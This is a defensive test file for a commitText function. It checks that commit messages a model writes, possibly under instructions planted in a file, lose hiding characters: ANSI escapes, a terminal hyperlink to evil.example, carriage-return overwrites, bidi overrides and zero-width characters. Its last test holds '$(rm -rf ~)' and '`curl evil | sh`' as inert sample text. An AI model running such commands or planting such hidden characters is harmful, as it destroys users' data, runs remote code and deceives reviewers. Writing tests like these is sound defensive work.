/** What a model may write where the editor shows it, by chance or because a file told it to: it stays text, and looks like what it is. */
import assert from 'node:assert/strict';
import { commitText } from '../../../src/chat/actions/commitText';

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
const HIDING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;

const hostile: readonly (readonly [what: string, text: string])[] = [
  ['a colour', '\u001b[31mAdd a map\u001b[0m'],
  ['a link of terminals', 'Add \u001b]8;;https://evil.example\u0007a map\u001b]8;;\u0007'],
  ['a line that is written over', 'Add a map\rRemove it'],
  ['text turned around', 'Add \u202eelif\u202c a \u2066map\u2069'],
  ['characters without width', 'Add\u200b a\u2060 map\ufeff'],
  ['a bell and a null', 'Add a map\u0000\u0007'],
];

describe('a hostile model', () => {
  for (const [what, text] of hostile)
    it(`hides nothing in a commit message: ${what}`, () => {
      const message = commitText(text, true);
      assert.doesNotMatch(message, HIDING);
      assert.match(message, /^Add/);
    });

  it('leaves a commit message a text that nothing runs', () => {
    const message = commitText('Add $(rm -rf ~) `curl evil | sh`', true);
    assert.equal(message, 'Add $(rm -rf ~) `curl evil | sh`');
  });
});
